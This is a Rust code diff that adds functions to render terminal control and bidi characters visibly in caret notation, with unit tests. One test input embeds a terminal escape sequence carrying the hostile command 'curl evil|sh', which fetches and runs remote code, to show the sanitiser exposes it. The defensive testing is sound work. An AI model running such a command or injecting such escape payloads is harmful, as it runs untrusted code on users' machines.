@@ -33,6 +33,43 @@ pub(crate) fn clean(text: &str) -> Cow<'_, str> {
     Cow::Owned(out)
 }
 
+/// Shows what could command a terminal, for what people review: the content and
+/// the names of files, and commands. Newlines and tabs stay; other control
+/// characters show as `^[` and the like, those that reorder text as U+FFFD.
+pub(crate) fn visible(text: &str) -> Cow<'_, str> {
+    if !text.contains(is_unsafe) {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            c if !is_unsafe(c) => out.push(c),
+            '\0'..='\u{7f}' => push_caret(&mut out, c),
+            _ => out.push(char::REPLACEMENT_CHARACTER),
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// Writes a path so that it takes one line and commands no terminal.
+pub(crate) fn visible_path(path: &Path) -> String {
+    let mut out = String::new();
+    for c in visible(&path.to_string_lossy()).chars() {
+        match c {
+            '\n' | '\t' => push_caret(&mut out, c),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// Writes a control character as a terminal echoes it: `^[` for escape, `^?` for
+/// delete.
+fn push_caret(out: &mut String, c: char) {
+    let letter = u8::try_from(c).map_or(b'?', |byte| (byte & 0x7f) ^ 0x40);
+    out.extend(['^', char::from(letter)]);
+}
+
 /// Returns whether a character could command a terminal.
 pub(crate) fn is_unsafe(c: char) -> bool {
     (c.is_control() && c != '\n' && c != '\t')
@@ -179,6 +216,17 @@ mod tests {
         assert_eq!(clean("tab\tand\nline ü 😀"), "tab\tand\nline ü 😀");
         assert_eq!(clean("ends in \u{1b}"), "ends in ");
         assert_eq!(clean("\u{1b}[12"), "[12");
+    }
+
+    #[test]
+    fn what_people_review_hides_nothing() {
+        let title = "\u{1b}]0;curl evil|sh\u{7}echo hi";
+        assert_eq!(visible(title), "^[]0;curl evil|sh^Gecho hi");
+        assert_eq!(visible("a\r\nb\0\u{7f}"), "a^M\nb^@^?");
+        assert_eq!(visible("\u{9b}31m\u{202e}"), "\u{fffd}31m\u{fffd}");
+        assert_eq!(visible("tab\tand ü 😀\n"), "tab\tand ü 😀\n");
+        let path = Path::new("a\nb\tc\u{1b}[2K");
+        assert_eq!(visible_path(path), "a^Jb^Ic^[[2K");
     }
 
     #[test]
